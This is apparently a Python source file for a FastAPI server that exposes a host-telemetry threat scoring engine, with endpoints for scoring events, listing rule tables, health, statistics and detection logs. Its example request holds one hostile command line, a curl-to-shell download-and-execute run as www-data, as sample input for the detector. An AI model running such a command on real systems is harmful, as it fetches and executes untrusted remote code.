"""
FastAPI REST API server for the threat scoring engine.

This server exposes the scoring engine over HTTP so that collectors running
in other processes or on other hosts can submit telemetry events and get a
threat level back synchronously.

Key Features:
- Raw scoring endpoint (JSON bytes in, threat level out)
- Structured event endpoint returning a full verdict
- Rule table listing
- Health monitoring and detection statistics
"""

# src/threatscore/api/server.py
import logging
from datetime import datetime, timezone
from typing import Any, Dict, List, Optional

from fastapi import FastAPI, HTTPException, Query, Request
from pydantic import BaseModel, ConfigDict, Field

from .. import __version__
from ..engine import ThreatDetector, score
from ..log_writer import LogWriter, configure_logging
from ..rules import RULE_TABLES, DetectionConfig
from ..settings import Settings

logger = logging.getLogger(__name__)


# =============================================================================
# Pydantic Models for API Request/Response
# =============================================================================

class EventRequest(BaseModel):
    """Request model for submitting a telemetry event."""
    type: Optional[str] = Field(None, description="Event type: process, network or file")
    data: Dict[str, Any] = Field(default_factory=dict, description="Event payload")
    id: Optional[str] = Field(None, description="Collector assigned event id")
    source: Optional[str] = Field(None, description="Collector name")
    timestamp: Optional[str] = Field(None, description="Collector timestamp (RFC 3339)")

    model_config = ConfigDict(json_schema_extra={
        "example": {
            "id": "evt-1",
            "type": "process",
            "source": "process-collector",
            "data": {
                "process": {
                    "executable": "/bin/bash",
                    "name": "bash",
                    "command_line": "bash -c 'curl http://x | sh'",
                    "user": "www-data",
                },
            },
        }
    })


class ScoreResponse(BaseModel):
    """Response model for raw scoring."""
    threat_level: int = Field(..., description="Threat level, nominally 0-10")


class VerdictResponse(BaseModel):
    """Response model for a scored event."""
    rule_name: str
    threat_level: int
    severity: str
    threat: bool
    confidence: float
    description: str
    event_id: Optional[str] = None
    event_type: Optional[str] = None


class RuleTableInfo(BaseModel):
    """Summary of one loaded rule table."""
    name: str
    field: str
    mode: str
    predicate: str
    rules: int


class RulesResponse(BaseModel):
    """Response model for the rule listing."""
    rule_name: str
    tables: List[RuleTableInfo]


class HealthResponse(BaseModel):
    """Response model for health check."""
    status: str = Field(..., description="Server health status")
    timestamp: str = Field(..., description="Current server timestamp")
    version: str = Field(..., description="API version")
    uptime_seconds: float = Field(..., description="Server uptime in seconds")


# =============================================================================
# FastAPI Application Setup
# =============================================================================

def _now() -> datetime:
    return datetime.now(timezone.utc)


def create_app(settings: Optional[Settings] = None) -> FastAPI:
    """
    Build the scoring API.

    Args:
        settings: Runtime settings; read from the environment when None

    Returns:
        Configured FastAPI application
    """
    settings = settings or Settings()
    configure_logging(settings.log_dir, settings.logging_level)

    log_writer = LogWriter(settings.detection_log)
    detector = ThreatDetector(log_writer)

    app = FastAPI(
        title="Threat Scoring API",
        description="REST API for heuristic threat scoring of host telemetry events",
        version=__version__,
        docs_url="/docs",
        redoc_url="/redoc",
    )
    app.state.detector = detector
    app.state.stats = {
        "start_time": _now(),
        "events_scored": 0,
        "threats_detected": 0,
        "api_calls": 0,
    }
    stats = app.state.stats

    def _count(threat_level: int) -> None:
        stats["events_scored"] += 1
        if threat_level > 0:
            stats["threats_detected"] += 1

    # =========================================================================
    # API Endpoints
    # =========================================================================

    @app.get("/", response_model=Dict[str, str])
    async def root():
        """Root endpoint with API information."""
        return {
            "service": "Threat Scoring API",
            "version": __version__,
            "status": "running",
            "docs": "/docs",
            "health": "/health",
        }

    @app.get("/health", response_model=HealthResponse)
    async def health_check():
        """Health check endpoint for monitoring."""
        stats["api_calls"] += 1
        uptime = (_now() - stats["start_time"]).total_seconds()

        return HealthResponse(
            status="healthy",
            timestamp=_now().isoformat(),
            version=__version__,
            uptime_seconds=uptime,
        )

    @app.post("/score", response_model=ScoreResponse)
    async def score_raw(request: Request):
        """
        Score a raw JSON event body.

        The body is handed to the engine untouched; malformed or empty
        bodies score 0 instead of being rejected.
        """
        stats["api_calls"] += 1
        threat_level = score(await request.body())
        _count(threat_level)
        return ScoreResponse(threat_level=threat_level)

    @app.post("/events", response_model=VerdictResponse)
    async def submit_event(event_request: EventRequest):
        """Score a structured event and record the verdict in the detection log."""
        stats["api_calls"] += 1
        verdict = detector.handle_event(event_request.model_dump(exclude_none=True))
        _count(verdict.threat_level)
        return VerdictResponse(**verdict.to_dict())

    @app.get("/rules", response_model=RulesResponse)
    async def list_rules():
        """List the rule tables the engine scores with."""
        stats["api_calls"] += 1
        return RulesResponse(
            rule_name=DetectionConfig.RULE_NAME,
            tables=[
                RuleTableInfo(
                    name=table.name,
                    field=table.field,
                    mode=table.mode.value,
                    predicate=table.predicate.value,
                    rules=len(table),
                )
                for table in RULE_TABLES
            ],
        )

    @app.get("/stats")
    async def get_stats():
        """Get server counters and detection log statistics."""
        stats["api_calls"] += 1
        uptime = (_now() - stats["start_time"]).total_seconds()
        return {
            "events_scored": stats["events_scored"],
            "threats_detected": stats["threats_detected"],
            "api_calls": stats["api_calls"],
            "uptime_seconds": uptime,
            "detections": log_writer.get_stats(),
        }

    @app.get("/logs/detections")
    async def get_detection_logs(limit: int = Query(50, ge=1, le=1000)):
        """Get recent detection log records."""
        stats["api_calls"] += 1
        try:
            detections = log_writer.read_recent(limit)
        except (OSError, ValueError) as e:
            logger.error("Error reading detection log: %s", e)
            raise HTTPException(status_code=500, detail=f"Error reading logs: {e}")
        return {
            "detections": detections,
            "total_returned": len(detections),
        }

    return app
